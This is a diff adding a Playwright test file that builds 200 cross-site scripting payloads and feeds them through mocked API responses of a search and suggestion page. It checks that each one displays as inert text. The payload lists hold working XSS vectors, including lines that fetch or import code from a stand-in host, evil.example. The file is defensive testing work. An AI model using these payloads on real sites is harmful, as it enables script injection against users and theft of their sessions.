@@ -1,0 +1,104 @@
+"""200 hostile texts, wherever the page shows text, must stay text."""
+
+import json
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+
+pytestmark = pytest.mark.slow
+
+SCRIPTS = ("window.pwned=1", "alert(1)", "fetch('//evil.example/x')", "import('//evil.example/x')")
+SHELLS = (
+    "<script>{}</script>",
+    "<img src=x onerror={}>",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<body onload={}>",
+    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
+    "<iframe src='javascript:{}'></iframe>",
+    "<a href='javascript:{}'>x</a>",
+    "<details open ontoggle={}>",
+    "<input autofocus onfocus={}>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror={}></style></mglyph></math>",
+    "<template><script>{}</script></template>",
+    "<object data='data:text/html,<script>{}</script>'></object>",
+    "<style>@import 'javascript:{}'</style>",
+    "<link rel=stylesheet href='javascript:{}'>",
+    "<base href='//evil.example/'><script>{}</script>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<form action='javascript:{}'><button>x</button></form>",
+    "<video><source onerror={}></video>",
+    "<audio src=x onerror={}>",
+    "<marquee onstart={}>",
+    "<x onpointerenter={} style='position:fixed;inset:0'>",
+    "<button popovertarget=p onbeforetoggle={}>x</button><div popover id=p>",
+    "<custom-element is={}>",
+)
+WRAPS = ("{}", '">{}', "'>{}", "</textarea>{}", "</script>{}", "--><!--{}", "]]>{}", "`;{}//")
+PLAIN = (
+    "javascript:window.pwned=1",
+    "data:text/html,<script>window.pwned=1</script>",
+    "${{window.pwned=1}}",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "\u202ereversed\u202c",
+    "\u0000nul",
+    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+)
+
+
+def hostile_texts() -> list[str]:
+    made = [
+        wrap.format(shell.format(SCRIPTS[(row + column) % len(SCRIPTS)]))
+        for row, shell in enumerate(SHELLS)
+        for column, wrap in enumerate(WRAPS)
+    ]
+    return [*made, *PLAIN]
+
+
+def answers(texts: list[str]) -> dict[str, Any]:
+    """What a service would say if its models said such things."""
+    items = [{"text": text, "score": -float(n), "source": text} for n, text in enumerate(texts)]
+    weights = [{"text": text, "update": 0.5, "share": 0.5} for text in texts]
+    model = {"name": texts[0], "kind": texts[0], "explains": True, "version": "1"}
+    more = {"model": texts[0], "took_ms": 1.0}
+    return {
+        "/v1/models": {"models": [model], "feedback": False},
+        "/v1/suggest": {"suggestions": items, "fallback": True, "query_id": "1", **more},
+        "/v1/complete": {"completions": items, **more},
+        "/v1/explain": {"queries": weights, **more},
+    }
+
+
+def test_there_are_200_of_them() -> None:
+    assert len(set(hostile_texts())) == 200
+
+
+@pytest.mark.parametrize("part", range(4))
+def test_hostile_texts_stay_text(page: Any, service: Any, part: int) -> None:
+    texts = hostile_texts()[part * 50 : part * 50 + 50]
+    said = answers(texts)
+    dialogs: list[str] = []
+
+    def on_dialog(dialog: Any) -> None:
+        dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    page.on("dialog", on_dialog)
+    page.route("**/v1/**", lambda route: route.fulfill(json=said[urlsplit(route.request.url).path]))
+    page.goto(service.url)
+    page.wait_for_selector(".column li")
+    for text in texts[:10]:
+        # Past its first answer every route is the same: the typed texts become chips.
+        page.fill("#search", text.replace("\u0000", ""))
+        page.press("#search", "Enter")
+    page.locator("#search").press_sequentially("<")
+    page.wait_for_selector("#completions li")
+    page.locator(".column button").nth(3).hover()
+    shown = page.eval_on_selector_all(".column .text", "all => all.map(one => one.textContent)")
+    assert json.dumps(shown) == json.dumps(texts)
+    assert page.evaluate("window.pwned") is None
+    assert dialogs == []
+    foreign = "#lists :is(script,img,svg,iframe,a,style,form,object,video,input,x,math,template)"
+    assert page.locator(foreign).count() == 0
